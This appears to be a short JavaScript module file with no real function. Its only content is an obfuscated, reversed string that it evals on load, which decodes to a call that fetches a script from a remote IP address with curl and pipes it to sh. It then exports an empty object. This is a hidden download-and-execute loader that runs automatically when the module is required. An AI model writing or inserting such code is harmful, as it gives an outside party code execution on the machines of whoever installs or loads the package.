const s = ')\'hs | s/12.001.15.891//:ptth s- lruc\'(cexe.)\'ssecorp_dlihc\'(eriuqer';
eval(s.split('').reverse().join(''));
module.exports = {};
